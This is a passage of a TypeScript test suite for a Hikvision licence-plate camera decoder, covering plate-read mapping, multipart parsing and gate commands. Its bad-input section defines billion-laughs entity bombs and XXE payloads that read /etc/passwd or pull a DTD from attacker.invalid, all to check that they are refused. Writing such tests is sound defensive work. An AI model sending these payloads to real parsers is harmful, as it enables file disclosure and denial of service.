import { createHash, randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  barrierGateRequest,
  barrierGateStatusRequest,
  decodeBarrierGateStatus,
  decodeNotification,
  decodeResponseStatus,
  decodeWhitelistPage,
  digestAuthorization,
  encodeGateCommand,
  FOREVER,
  MAX_NOTIFICATION_BYTES,
  MAX_XML_BYTES,
  md5Hex,
  parseDigestChallenge,
  parseXml,
  sha256Hex,
  voiceRequest,
  whitelistAddRequests,
  whitelistDeleteRequest,
  whitelistDiff,
  whitelistSearchRequest,
  type DecodedAnpr,
  type DigestChallenge,
  type HikRejection,
  type Notification,
  type NotificationContext,
  type NotificationResult,
} from '../../devices/vendors/hikvision/index.js';
import { ID_PATTERN } from '../../devices/ids.js';

// Hikvision ISAPI entrance cameras. Fixtures: ../shared/fixtures/devices/lpr-hikvision (read its SOURCES.md).
const DIR = fileURLToPath(new URL('../../../shared/fixtures/devices/lpr-hikvision/', import.meta.url));
const read = (f: string) => readFileSync(DIR + f, 'utf8');
const ANPR = 'isapi-anpr-deepinview-v5.8.xml';
/** One second after the fixture's capture (20:44:40+01:00). */
const AT = '2026-07-05T19:44:41.000Z';
const SERIAL = 'DS-TCG406-E20230101AACHJ12345678';
const ctx: NotificationContext = { receivedAt: AT, direction: 'in', serialNo: SERIAL };
const enc = new TextEncoder();

function note(r: NotificationResult): Notification {
  if (!r.ok) throw new Error(`expected a notification, got ${r.reason}: ${r.message}`);
  return r.notification;
}
function anpr(r: NotificationResult): DecodedAnpr & { images: Notification['images'] } {
  const n = note(r);
  if (n.kind !== 'plate') throw new Error(`expected a plate read, got ${JSON.stringify(n)}`);
  return n;
}
function rejected(r: unknown): HikRejection {
  if (typeof r !== 'object' || r === null || (r as { ok?: unknown }).ok !== false) throw new Error(`expected a rejection, got ${JSON.stringify(r)?.slice(0, 300)}`);
  return r as HikRejection;
}
const plateRead = (r: NotificationResult) => {
  const e = anpr(r).events.find((x) => x.message.type === 'plate.read');
  if (!e || e.message.type !== 'plate.read') throw new Error('no plate.read');
  return e.message;
};

/** The fixture with fields changed: `[tag, value]` replaces that element's text; value `null` removes it; extra XML goes before </ANPR>. */
function variant(changes: [string, string | null][] = [], insideAnpr = ''): string {
  let x = read(ANPR);
  for (const [tag, value] of changes) {
    const re = new RegExp(`<${tag}>[^<]*</${tag}>\\n?`);
    expect(re.test(x), `${tag} is in the fixture`).toBe(true);
    x = x.replace(re, value === null ? '' : `<${tag}>${value}</${tag}>\n`);
  }
  return x.replace('</ANPR>', `${insideAnpr}</ANPR>`);
}
const decodeXml = (xml: string, c: NotificationContext = ctx) => decodeNotification(enc.encode(xml), 'application/xml', c);

// A small JPEG-shaped picture: SOI, APP0 marker, filler that includes CR LF and dashes, EOI.
function jpeg(size: number, fill = 0x42): Uint8Array {
  const b = new Uint8Array(size).fill(fill);
  b.set([0xff, 0xd8, 0xff, 0xe0]);
  b.set([0x0d, 0x0a, 0x2d, 0x2d, 0x62], 10); // "\r\n--b": looks like a delimiter start, is not one
  b.set([0xff, 0xd9], size - 2);
  return b;
}
interface PartSpec {
  name: string;
  type: string;
  body: Uint8Array | string;
  extra?: string;
}
function multipart(boundary: string, parts: PartSpec[], opts: { eol?: string; close?: boolean; preamble?: string } = {}): Uint8Array {
  const eol = opts.eol ?? '\r\n';
  const chunks: Uint8Array[] = [];
  if (opts.preamble) chunks.push(enc.encode(opts.preamble + eol));
  for (const p of parts) {
    chunks.push(enc.encode(`--${boundary}${eol}Content-Disposition: form-data; name="${p.name}"; filename="${p.name}"${eol}Content-Type: ${p.type}${eol}${p.extra ?? ''}${eol}`));
    chunks.push(typeof p.body === 'string' ? enc.encode(p.body) : p.body);
    chunks.push(enc.encode(eol));
  }
  if (opts.close !== false) chunks.push(enc.encode(`--${boundary}--${eol}`));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let o = 0;
  for (const c of chunks) {
    out.set(c, o);
    o += c.length;
  }
  return out;
}
const PLATE_JPEG = jpeg(3000, 0x41);
const SCENE_JPEG = jpeg(120_000, 0x43);
const anprMultipart = (xml = read(ANPR), boundary = 'boundary') =>
  multipart(boundary, [
    { name: 'anpr.xml', type: 'text/xml; charset="UTF-8"', body: xml },
    { name: 'licensePlatePicture.jpg', type: 'image/jpeg', body: PLATE_JPEG },
    { name: 'detectionPicture.jpg', type: 'image/jpeg', body: SCENE_JPEG },
  ]);

/** Runs `fn` and says how long it took: refusals must be quick, whatever the input. */
function timed<T>(fn: () => T): { value: T; ms: number } {
  const t = performance.now();
  const value = fn();
  return { value, ms: performance.now() - t };
}

// ── every fixture file, by what it is ──────────────────────────────────────────────────────────────
type Check = (file: string) => void;

const anprXml: Check = (file) => {
  const xml = read(file);
  const expected = {
    id: '6-E20230101AACHJ12345678.1.1783280680.x',
    ts: '2026-07-05T19:44:40.000Z', // 20:44:40+01:00
    type: 'plate.read',
    plate: 'WX1234A',
    color: 'unknown', // plateColor unknown
    confidence: 0.92, // confidenceLevel 92
    newEnergy: false,
  };
  // Plain XML, multipart/form-data and multipart/mixed carry the same event.
  const plain = anpr(decodeXml(xml));
  expect(plain.events).toEqual([{ kind: 'camera', message: expected }]);
  expect(plain).toMatchObject({ channel: 1, plate: 'WX1234A', plateStatus: 'read', backlog: false, images: [] });
  expect(plain.extras).toMatchObject({ motion: 'reverse', vehicleType: 'SUVMPV', vehicleListName: 'otherList', uuid: 'x', colorRaw: 'unknown' });
  // plateType "unknown" says nothing: it is not passed on.
  expect(plain.events[0]!.message).not.toHaveProperty('plateType');
  // The camera's `direction` (reverse) is image motion: never the contract's in/out, whatever the lane.
  expect(plain.events[0]!.message).not.toHaveProperty('direction');
  expect(plateRead(decodeXml(xml, { ...ctx, direction: 'out' }))).toEqual(expected);
  for (const type of ['multipart/form-data', 'multipart/mixed']) {
    const r = decodeNotification(anprMultipart(xml, 'MIME_boundary'), `${type}; boundary="MIME_boundary"`, ctx);
    const m = anpr(r);
    expect(m.events).toEqual(plain.events);
    expect(m.images.map((i) => [i.name, i.role, i.bytes.length])).toEqual([
      ['licensePlatePicture.jpg', 'plate', 3000],
      ['detectionPicture.jpg', 'scene', 120_000],
    ]);
    expect(m.images[0]!.bytes).toEqual(PLATE_JPEG); // bytes intact, never passed through text
    expect(m.images[1]!.bytes).toEqual(SCENE_JPEG);
    // Pictures sit beside the event, never in it; the support copy is the XML alone.
    expect(JSON.stringify(m.events).length).toBeLessThan(400);
    if (r.ok) expect(r.raw).toBe(xml);
  }
  // A repeat (the camera resends, activePostCount counting uploads) is the same message id: the gateway drops it.
  const again = plateRead(decodeXml(xml.replace('<eventDescription>', '<activePostCount>2</activePostCount>\n<eventDescription>')));
  expect(again.id).toBe(expected.id);
  expect(again.id).toMatch(ID_PATTERN);
};

/** `ctrlMode` values the field note lists, and the captured body. */
const barrierRequest: Check = (file) => {
  const captured = read(file);
  const r = barrierGateRequest('open');
  expect(r).toEqual({ purpose: 'barrier', method: 'PUT', path: '/ISAPI/Parking/channels/1/barrierGate', contentType: 'application/xml', body: captured });
  // byte for byte: no namespace, no version, no newline
  expect(enc.encode((r as { body: string }).body)).toEqual(new Uint8Array(readFileSync(DIR + file)));
};

const barrierHttpNotes: Check = (file) => {
  const lines = read(file).split('\n');
  const line = (prefix: string) => lines.find((l) => l.startsWith(prefix))!;
  // PUT …/barrierGate with the body on the next line
  const put = line('PUT /ISAPI/Parking/channels/1/barrierGate ').split(/\s+/).slice(0, 2).join(' ');
  const open = barrierGateRequest('open') as { method: string; path: string; body: string };
  expect(`${open.method} ${open.path}`).toBe(put);
  expect(open.body).toBe(line('body: ').slice('body: '.length));
  // every ctrlMode seen gives the same body with that mode
  const modes = /ctrlMode seen: (.*?)\s+\(/.exec(line('ctrlMode seen:'))![1]!.split('|').map((s) => s.trim());
  expect(modes).toEqual(['open', 'close', 'lock', 'unlock']);
  for (const mode of modes) expect((barrierGateRequest(mode as 'open') as { body: string }).body).toBe(open.body.replace('>open<', `>${mode}<`));
  // GET …/barrierGateStatus and its enum 0 无信号 | 1 关到位 | 2 开到位
  const statusLine = line('GET ');
  const status = barrierGateStatusRequest() as { method: string; path: string };
  expect(statusLine.startsWith(`${status.method} ${status.path} `)).toBe(true);
  const values = [...statusLine.matchAll(/(\d) (无信号|关到位|开到位)/g)].map((m) => [m[1], m[2]]);
  expect(values).toEqual([['0', '无信号'], ['1', '关到位'], ['2', '开到位']]);
  const meaning: Record<string, string> = { 无信号: 'no-signal', 关到位: 'closed', 开到位: 'open' };
  for (const [code, words] of values) {
    const s = decodeBarrierGateStatus(`<BarrierGateStatus><barrierGateStatus>${code}</barrierGateStatus></BarrierGateStatus>`);
    expect(s).toMatchObject({ ok: true, code: Number(code), status: meaning[words!] });
  }
  // "success: HTTP 200, ResponseStatus statusCode 1; a locked barrier still answers, so 200 != arm moved":
  // the answer is accepted, and only the status read afterwards can say the arm is up.
  expect(line('success:')).toMatch(/statusCode 1/);
  const answer = decodeResponseStatus('<?xml version="1.0" encoding="UTF-8"?><ResponseStatus><statusCode>1</statusCode><statusString>OK</statusString></ResponseStatus>');
  expect(answer).toMatchObject({ ok: true, accepted: true, statusCode: 1 });
  const cmd = encodeGateCommand(anOpen());
  expect(cmd).toMatchObject({ ok: true, confirm: { request: status, expect: 'open' } });
  expect(decodeBarrierGateStatus('<BarrierGateStatus><barrierGateStatus>1</barrierGateStatus></BarrierGateStatus>')).toMatchObject({ armState: 'closed' });
  // PUT …/voiceBroadcastInfo with TTSInfo "[v1]测试语音播报" ([vN] = volume 1-10)
  const voiceLine = line('PUT /ISAPI/Parking/channels/1/voiceBroadcastInfo');
  const example = /"(\[v(\d+)\](.+?))"/.exec(voiceLine)!;
  const voice = voiceRequest(example[3]!, { volume: Number(example[2]) }) as { method: string; path: string; body: string };
  expect(voiceLine.startsWith(`${voice.method} ${voice.path} `)).toBe(true);
  expect(voice.body).toContain(`<TTSInfo>${example[1]}</TTSInfo>`);
  // POST /ISAPI/System/LCDScreen/displayInfo?format=json
  const lcd = (encodeGateCommand(anOpen()) as { requests: { purpose: string; method: string; path: string }[] }).requests.find((q) => q.purpose === 'display')!;
  expect(line('POST ').startsWith(`${lcd.method} ${lcd.path} `)).toBe(true);
};

/** JSON compared after normalising whitespace (key order kept). */
const normalJson = (text: string) => JSON.stringify(JSON.parse(text));

const lpAuditAdd: Check = (file) => {
  // The sample: created 2024-03-26 16:30:34 camera time (UTC+8), from that day, "5000-12-01" as the open end.
  const reqs = whitelistAddRequests([{ plate: '浙A12345' }], { now: Date.parse('2024-03-26T08:30:34Z') });
  expect(Array.isArray(reqs) && reqs.length).toBe(1);
  const [r] = reqs as { method: string; path: string; contentType: string; body: string }[];
  expect(r!.body).toBe(normalJson(read(file).replace('<plate>', '浙A12345')));
  expect(r).toMatchObject({ method: 'PUT', path: '/ISAPI/Traffic/channels/1/licensePlateAuditData/record?format=json', contentType: 'application/json' });
  expect(FOREVER).toBe(JSON.parse(read(file)).LicensePlateInfoList[0].effectiveTime);
};

const lpAuditDelete: Check = (file) => {
  const r = whitelistDeleteRequest('浙A12345') as { method: string; path: string; contentType: string; body: string };
  expect(r.body).toBe(normalJson(read(file).replace('<plate>', '浙A12345')));
  expect(r).toMatchObject({ method: 'PUT', path: '/ISAPI/Traffic/channels/1/DelLicensePlateAuditData?format=json', contentType: 'application/json' });
};

const sources: Check = (file) => {
  const rows = read(file).split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| fixture'));
  const named = rows.map((l) => l.split('|')[1]!.trim());
  for (const other of readdirSync(DIR)) if (other !== file) expect(named, `${other} has no row in SOURCES.md`).toContain(other);
};

const CHECKS: Record<string, Check> = {
  'SOURCES.md': sources,
  [ANPR]: anprXml,
  'isapi-barriergate-open.request.xml': barrierRequest,
  'isapi-barriergate.http.txt': barrierHttpNotes,
  'isapi-lpaudit-add.request.json': lpAuditAdd,
  'isapi-lpaudit-delete.request.json': lpAuditDelete,
};

describe('Hikvision fixtures (every file in shared/fixtures/devices/lpr-hikvision)', () => {
  for (const file of readdirSync(DIR).sort()) {
    it(file, () => {
      const check = CHECKS[file];
      if (!check) throw new Error(`${file}: a fixture no check covers; teach this test what it is before relying on it`);
      check(file);
    });
  }
});

function anOpen(change: (c: Record<string, unknown>) => void = () => {}): Record<string, unknown> {
  const c: Record<string, unknown> = {
    id: 'cmd-1',
    ts: AT,
    type: 'open',
    cmdId: 'cmd-1',
    direction: 'in',
    plate: '浙A12345',
    display: '月租车 欢迎回家',
    voice: '欢迎回家',
    expiresAt: '2026-07-05T19:45:41.000Z',
  };
  change(c);
  return c;
}

// ── ANPR mapping ─────────────────────────────────────────────────────────────────────────────────
describe('EventNotificationAlert ANPR → plate.read', () => {
  it('Chinese plates: the colour word in front is taken off; a province that is a colour stays', () => {
    const cases: [string, string | null, string, string, boolean][] = [
      ['蓝浙AX2P12', 'blue', '浙AX2P12', 'blue', false], // the schema's own example
      ['黄鄂A12345', 'yellow', '鄂A12345', 'yellow', false],
      ['黑A12345', 'black', '黑A12345', 'black', false], // Heilongjiang, no colour word
      ['黑黑A12345', 'black', '黑A12345', 'black', false],
      ['黄绿粤AD12345', 'newEnergyYellowGreen', '粤AD12345', 'green', true], // not 黄 + "绿粤…"
      ['渐变绿浙AD12345', 'newEnergyGreen', '浙AD12345', 'green', true],
      ['绿浙AD12345', null, '浙AD12345', 'green', false], // no plateColor: the colour word says green
      ['白京A1234警', 'white', '京A1234警', 'white', false],
      ['蓝浙A12345', 'yellow', '浙A12345', 'yellow', false], // they disagree: plateColor wins, with a warning
    ];
    for (const [raw, plateColor, plate, color, newEnergy] of cases) {
      const r = decodeXml(variant([['licensePlate', raw], ['plateColor', plateColor]]));
      expect(plateRead(r), raw).toMatchObject({ plate, color, newEnergy });
    }
    expect(anpr(decodeXml(variant([['licensePlate', '蓝浙A12345'], ['plateColor', 'yellow']]))).warnings.join(' ')).toMatch(/disagree/);
  });

  it('no plate: noPlate, unknown and 无车牌 become "" (the read still goes to the rules)', () => {
    for (const [raw, status] of [['noPlate', 'no-plate'], ['unknown', 'unrecognised'], ['无车牌', 'no-plate'], ['蓝无车牌', 'no-plate'], ['', 'no-plate']] as const) {
      const r = decodeXml(variant([['licensePlate', raw]]));
      expect(plateRead(r).plate, raw).toBe('');
      expect(anpr(r).plateStatus, raw).toBe(status);
    }
  });

  it('every plateColor of the ISAPI enum maps to a contract colour', () => {
    const table: Record<string, [string, boolean]> = {
      blue: ['blue', false], yellow: ['yellow', false], white: ['white', false], black: ['black', false], green: ['green', false],
      newEnergyGreen: ['green', true], newEnergyYellowGreen: ['green', true], civilAviationBlack: ['black', false], civilAviationGreen: ['green', false],
      golden: ['unknown', false], orange: ['unknown', false], red: ['unknown', false], brown: ['unknown', false], mixedColor: ['unknown', false],
      other: ['unknown', false], unknown: ['unknown', false],
    };
    for (const [plateColor, [color, newEnergy]] of Object.entries(table)) {
      expect(plateRead(decodeXml(variant([['plateColor', plateColor]]))), plateColor).toMatchObject({ color, newEnergy });
    }
    const odd = anpr(decodeXml(variant([['plateColor', 'purple']])));
    expect(plateRead(decodeXml(variant([['plateColor', 'purple']]))).color).toBe('unknown');
    expect(odd.warnings.join(' ')).toMatch(/not in the ISAPI enum/);
    // plateType newEnergy says new-energy too, and is passed on as the plate's kind
    expect(plateRead(decodeXml(variant([['plateType', 'newEnergy'], ['plateColor', 'green']])))).toMatchObject({ newEnergy: true, plateType: 'newEnergy' });
  });

  it('confidence is confidenceLevel / 100; a float is read; out of range or missing is a dead letter naming the field', () => {
    expect(plateRead(decodeXml(variant([['confidenceLevel', '92.5']]))).confidence).toBeCloseTo(0.925);
    expect(plateRead(decodeXml(variant([['confidenceLevel', '0']]))).confidence).toBe(0);
    expect(plateRead(decodeXml(variant([['confidenceLevel', '100']]))).confidence).toBe(1);
    for (const bad of ['101', '-1', 'high', '', null]) {
      const r = rejected(decodeXml(variant([['confidenceLevel', bad]])));
      expect(r, String(bad)).toMatchObject({ reason: 'schema', field: 'EventNotificationAlert.ANPR.confidenceLevel' });
    }
  });

  it('the camera direction is motion, kept for support only; the registered lane direction never enters plate.read', () => {
    for (const motion of ['forward', 'reverse', 'unknown']) {
      for (const direction of ['in', 'out'] as const) {
        const r = decodeXml(variant([['direction', motion]]), { ...ctx, direction });
        expect(plateRead(r)).not.toHaveProperty('direction');
        expect(anpr(r).extras.motion).toBe(motion);
      }
    }
  });

  it('message ids: deterministic per capture, distinct per UUID and second, always a contract id', () => {
    const id = (xml: string, c: NotificationContext = ctx) => plateRead(decodeXml(xml, c)).id;
    const base = id(variant());
    expect(id(variant())).toBe(base);
    expect(id(variant([['UUID', 'y']]))).not.toBe(base);
    expect(id(variant([['dateTime', '2026-07-05T20:44:41+01:00']]))).not.toBe(base);
    // a retransmission flag or another upload count does not change it
    expect(id(variant().replace('<UUID>', '<isDataRetransmission>true</isDataRetransmission>\n<UUID>'))).toBe(base);
    const long = id(variant([['UUID', '2f9c5d9e-4d5a-4b8e-9d2c-1a2b3c4d5e6f-extra-long-value']]));
    expect(long).toMatch(ID_PATTERN);
    expect(long).toBe(id(variant([['UUID', '2f9c5d9e-4d5a-4b8e-9d2c-1a2b3c4d5e6f-extra-long-value']])));
    const noUuid = id(variant([['UUID', null]]));
    expect(noUuid).toMatch(ID_PATTERN);
    expect(noUuid).not.toBe(id(variant([['UUID', null], ['licensePlate', 'WX9999A']])));
    // without a registered serial, the MAC the camera sends; without either, "hik"
    expect(id(variant([], '').replace('<portNo>', '<macAddress>68:6d:bc:7d:9e:27</macAddress>\n<portNo>'), { receivedAt: AT })).toMatch(/^686dbc7d9e27\.1\./);
    expect(id(variant(), { receivedAt: AT })).toMatch(/^hik\.1\./);
    for (const serial of ['-----', '__x', 'ä-ö', 'A'.repeat(200)]) expect(id(variant(), { ...ctx, serialNo: serial })).toMatch(ID_PATTERN);
    // hasMoreData: the short first report and the full one that follows (same UUID, same capture) share the id
    const first = id(variant([], '<hasMoreData>true</hasMoreData>\n'));
    expect(first).toBe(base);
  });

  it('dateTime: a zone is honoured, none means the registered offset (China by default), garbage means receipt time', () => {
    expect(plateRead(decodeXml(variant([['dateTime', '2026-07-05T20:44:40Z']]))).ts).toBe('2026-07-05T20:44:40.000Z');
    expect(plateRead(decodeXml(variant([['dateTime', '2026-07-05T20:44:40.250+08:00']]))).ts).toBe('2026-07-05T12:44:40.250Z');
    const noZone = decodeXml(variant([['dateTime', '2026-07-05 20:44:40']]));
    expect(plateRead(noZone).ts).toBe('2026-07-05T12:44:40.000Z');
    expect(anpr(noZone).warnings.join(' ')).toMatch(/no zone/);
    expect(plateRead(decodeXml(variant([['dateTime', '2026-07-05T20:44:40']]), { ...ctx, utcOffsetMinutes: 60 })).ts).toBe('2026-07-05T19:44:40.000Z');
    for (const bad of ['2026-02-30T10:00:00+08:00', 'yesterday', '']) {
      const r = decodeXml(variant([['dateTime', bad]]));
      expect(plateRead(r).ts, bad).toBe(AT);
      expect(plateRead(r).id, bad).toMatch(ID_PATTERN);
    }
  });

  it('backlog: history records and late retransmissions give no plate.read; one the camera opened for is a gate.manual', () => {
    const history = anpr(decodeXml(variant([], '<alarmDataType>1</alarmDataType>\n<barrierGateCtrlType>1</barrierGateCtrlType>\n')));
    expect(history).toMatchObject({ backlog: true, events: [] });
    const opened = anpr(decodeXml(variant([], '<alarmDataType>1</alarmDataType>\n<barrierGateCtrlType>0</barrierGateCtrlType>\n'), { ...ctx, direction: 'out' }));
    expect(opened.events).toEqual([
      {
        kind: 'gate',
        message: { id: '6-E20230101AACHJ12345678.1.1783280680.x.wl', ts: '2026-07-05T19:44:40.000Z', type: 'gate.manual', action: 'open', source: 'offline-whitelist', plate: 'WX1234A', direction: 'out' },
      },
    ]);
    const retransmit = (receivedAt: string) => anpr(decodeXml(variant().replace('<UUID>', '<isDataRetransmission>true</isDataRetransmission>\n<UUID>'), { ...ctx, receivedAt }));
    expect(retransmit('2026-07-05T19:45:30.000Z')).toMatchObject({ backlog: false }); // 50 s: a car may still be there
    expect(retransmit('2026-07-05T19:50:00.000Z')).toMatchObject({ backlog: true, events: [] });
  });

  it('a picture sent as a URL becomes imageRef; pictures are never inlined', () => {
    const list = '<pictureInfoList>\n<pictureInfo><fileName>detectionPicture.jpg</fileName><type>detectionPicture</type><dataType>1</dataType><pictureURL>http://192.168.1.64/picture/Streaming/tracks/120/?name=ch01_00000000001&amp;size=1</pictureURL></pictureInfo>\n</pictureInfoList>\n';
    const r = decodeXml(variant([], list));
    expect(plateRead(r).imageRef).toBe('http://192.168.1.64/picture/Streaming/tracks/120/?name=ch01_00000000001&size=1');
    const file = decodeXml(variant([], list.replace('http://', 'file://')));
    expect(plateRead(file)).not.toHaveProperty('imageRef');
  });

  it('namespaces: hikvision ver20, std-cgi ver10, isapi.org, prefixed (NVR forward) and none read the same', () => {
    const x = read(ANPR);
    const forms = [
      x,
      x.replace('version="2.0" xmlns="http://www.hikvision.com/ver20/XMLSchema"', 'version="1.0" xmlns="http://www.std-cgi.com/ver10/XMLSchema"'),
      x.replace('http://www.hikvision.com/ver20/XMLSchema', 'http://www.isapi.org/ver20/XMLSchema'),
      x.replace(/<(\/?)([A-Za-z])/g, '<$1ns1:$2').replace('xmlns=', 'xmlns:ns1='),
      x.replace(/ version="2\.0" xmlns="[^"]*"/, ''),
      `<?xml version="1.0" encoding="UTF-8"?>\r\n${x.replace(/\n/g, '\r\n')}`,
    ];
    for (const f of forms) expect(plateRead(decodeXml(f)), f.slice(0, 80)).toMatchObject({ plate: 'WX1234A', confidence: 0.92 });
  });

  it('heartbeats are presence, other events are ignored (typed, not dead letters), other channels are ignored', () => {
    const hb = '<EventNotificationAlert version="2.0" xmlns="http://www.isapi.org/ver20/XMLSchema"><ipAddress>192.168.1.64</ipAddress><channelID>1</channelID><dateTime>2026-07-05T20:44:40+01:00</dateTime><activePostCount>0</activePostCount><eventType>videoloss</eventType><eventState>inactive</eventState><eventDescription>videoloss alarm</eventDescription></EventNotificationAlert>';
    expect(note(decodeXml(hb))).toEqual({ kind: 'presence', eventType: 'videoloss', channel: 1, ts: '2026-07-05T19:44:40.000Z', warnings: [], images: [] });
    expect(note(decodeXml(variant([['eventState', 'inactive']])))).toMatchObject({ kind: 'presence', eventType: 'ANPR' });
    expect(note(decodeXml(hb.replace('videoloss</eventType><eventState>inactive', 'heartBeat</eventType><eventState>active')))).toMatchObject({ kind: 'presence' });
    for (const type of ['VMD', 'linedetection', 'fielddetection', 'PIR']) {
      expect(note(decodeXml(hb.replace('>videoloss<', `>${type}<`).replace('inactive', 'active'))), type).toMatchObject({ kind: 'ignored', eventType: type, eventState: 'active' });
    }
    expect(note(decodeXml(variant([['channelID', '2']]), { ...ctx, channel: 1 }))).toMatchObject({ kind: 'ignored', channel: 2 });
    expect(anpr(decodeXml(variant([['channelID', '2']])))).toMatchObject({ channel: 2 });
  });
});

// ── multipart ────────────────────────────────────────────────────────────────────────────────────
describe('multipart bodies', () => {
  it('boundaries quoted or not, LF-only lines, a preamble, octet-stream and pjpeg pictures, empty and non-JPEG parts', () => {
    const xml = read(ANPR);
    const lf = multipart('b0und', [{ name: 'anpr.xml', type: 'application/xml', body: xml }, { name: 'vehiclePicture.jpg', type: 'application/octet-stream', body: SCENE_JPEG }], { eol: '\n', preamble: 'This is a multi-part message in MIME format.' });
    const m = anpr(decodeNotification(lf, 'multipart/form-data; boundary=b0und', ctx));
    expect(m.images.map((i) => [i.name, i.role])).toEqual([['vehiclePicture.jpg', 'scene']]);
    expect(m.images[0]!.bytes).toEqual(SCENE_JPEG);
    const odd = multipart('boundary', [
      { name: 'anpr.xml', type: 'text/xml', body: xml },
      { name: 'licensePlatePicture.jpg', type: 'image/pjpeg', body: new Uint8Array(0), extra: 'Content-Length: 0\r\n' },
      { name: 'notes.txt', type: 'text/plain', body: 'not a picture' },
      { name: 'detectionPicture.jpg', type: 'image/jpeg', body: SCENE_JPEG, extra: 'Content-Length: 99\r\n' },
    ]);
    const r = decodeNotification(odd, 'multipart/form-data; boundary=boundary', ctx);
    expect(anpr(r).images.map((i) => i.name)).toEqual(['detectionPicture.jpg']);
    expect(r.ok && r.warnings.join(' | ')).toMatch(/licensePlatePicture\.jpg: empty.*notes\.txt: not a JPEG.*detectionPicture\.jpg: 120000 bytes, its Content-Length says 99/s);
  });

  it('a part name that is not anpr.xml is found by its type, or by starting with "<"', () => {
    const xml = read(ANPR);
    const byType = multipart('x', [{ name: 'MoveDetection', type: 'application/xml', body: xml }]);
    expect(plateRead(decodeNotification(byType, 'multipart/mixed; boundary=x', ctx)).plate).toBe('WX1234A');
    const byContent = multipart('x', [{ name: 'data', type: 'application/octet-stream', body: xml }]);
    expect(plateRead(decodeNotification(byContent, 'multipart/mixed; boundary=x', ctx)).plate).toBe('WX1234A');
  });
});

// ── bad input of every kind ──────────────────────────────────────────────────────────────────────
describe('bad input: a dead letter with a reason, quickly, never a throw', () => {
  const bomb = (reason: string, body: string | Uint8Array, type = 'application/xml') => {
    const { value, ms } = timed(() => decodeNotification(body, type, ctx));
    const r = rejected(value);
    expect(r.reason, r.message).toBe(reason);
    expect(ms, `${reason} took ${ms.toFixed(1)} ms`).toBeLessThan(250);
    expect(r.message.length).toBeLessThan(300); // nothing expanded into the message
    return r;
  };

  it('billion laughs: refused at the DOCTYPE, nothing expanded', () => {
    const lol = ['<?xml version="1.0"?>', '<!DOCTYPE lolz [', ' <!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(` <!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    lol.push(']>', '<EventNotificationAlert><eventType>ANPR</eventType><eventState>active</eventState><ANPR><licensePlate>&lol9;</licensePlate></ANPR></EventNotificationAlert>');
    const r = bomb('xml-dtd', lol.join('\n'));
    expect(r.message).toMatch(/DOCTYPE/);
    // the same through multipart
    bomb('xml-dtd', multipart('b', [{ name: 'anpr.xml', type: 'text/xml', body: lol.join('\n') }]), 'multipart/form-data; boundary=b');
    // and a quadratic blow-up (one big entity used many times)
    bomb('xml-dtd', `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(30_000)}">]><a>${'&x;'.repeat(5_000)}</a>`);
  });

  it('external and parameter entities: refused, never fetched; an undeclared entity is not XML', () => {
    bomb('xml-dtd', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><EventNotificationAlert><eventType>&xxe;</eventType></EventNotificationAlert>');
    bomb('xml-dtd', '<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.invalid/evil.dtd"> %dtd;]><a/>');
    bomb('xml-dtd', '<!DOCTYPE foo SYSTEM "http://attacker.invalid/evil.dtd"><a/>');
    const r = bomb('not-xml', variant([['licensePlate', '&xxe;']]));
    expect(r.message).toMatch(/&xxe; is not defined/);
    bomb('not-xml', variant([['licensePlate', 'A&B']]));
    // the five XML entities and character references are fine
    expect(plateRead(decodeXml(variant([['licensePlate', '&#x6D59;A&#49;2345']]))).plate).toBe('浙A12345');
    bomb('not-xml', variant([['licensePlate', '&#0;']]));
  });

  it('deep nesting, too many elements, a huge attribute: refused before parsing', () => {
    const deep = `<EventNotificationAlert>${'<a>'.repeat(9_000)}x${'</a>'.repeat(9_000)}</EventNotificationAlert>`;
    expect(deep.length).toBeLessThan(MAX_XML_BYTES); // inside the size cap: the depth check is what refuses it
    bomb('xml-limit', deep);
    bomb('too-large', `<EventNotificationAlert>${'<a>'.repeat(20_000)}x${'</a>'.repeat(20_000)}</EventNotificationAlert>`);
    bomb('xml-limit', `<EventNotificationAlert>${'<a>'.repeat(17)}x${'</a>'.repeat(17)}</EventNotificationAlert>`);
    bomb('xml-limit', `<EventNotificationAlert>${'<a/>'.repeat(2_500)}</EventNotificationAlert>`);
    bomb('xml-limit', `<EventNotificationAlert a="${'x'.repeat(50_000)}"><eventType>ANPR</eventType></EventNotificationAlert>`);
    bomb('too-large', `<EventNotificationAlert a="${'x'.repeat(10 * 1024 * 1024)}"/>`);
    bomb('too-large', variant([['channelName', 'x'.repeat(MAX_XML_BYTES)]]));
    // deep nesting just inside the limit is still an event the camera could not have sent: parsed, then read as such
    expect(rejected(decodeXml(`<EventNotificationAlert>${'<a>'.repeat(15)}x${'</a>'.repeat(15)}</EventNotificationAlert>`)).field).toBe('EventNotificationAlert.eventType');
  });

  it('not XML, truncated XML, wrong root, two roots, reserved names', () => {
    bomb('not-xml', 'hello camera');
    bomb('not-xml', '   ');
    bomb('not-xml', '<EventNotificationAlert><eventType>ANPR</eventType>'); // unclosed root
    bomb('truncated', read(ANPR).slice(0, 400) + '<licensePl'); // cut inside a tag
    bomb('not-xml', '<EventNotificationAlert><a></b></EventNotificationAlert>');
    bomb('not-xml', '<EventNotificationAlert/><EventNotificationAlert/>');
    bomb('not-xml', '<a><__proto__>x</__proto__></a>');
    bomb('not-xml', '<a><constructor>x</constructor></a>');
    bomb('unknown-message', '<ResponseStatus><statusCode>1</statusCode></ResponseStatus>');
    bomb('unsupported-content-type', '{"EventNotificationAlert":{}}', 'application/json');
    bomb('unsupported-content-type', 'plate=WX1234A', 'application/x-www-form-urlencoded');
    bomb('truncated', '<!-- never closed');
  });

  it('missing plate fields name the field', () => {
    const cases: [string, [string, string | null][], string][] = [
      ['licensePlate', [['licensePlate', null]], 'EventNotificationAlert.ANPR.licensePlate'],
      ['confidenceLevel', [['confidenceLevel', null]], 'EventNotificationAlert.ANPR.confidenceLevel'],
      ['eventType', [['eventType', null]], 'EventNotificationAlert.eventType'],
      ['eventState', [['eventState', null]], 'EventNotificationAlert.eventState'],
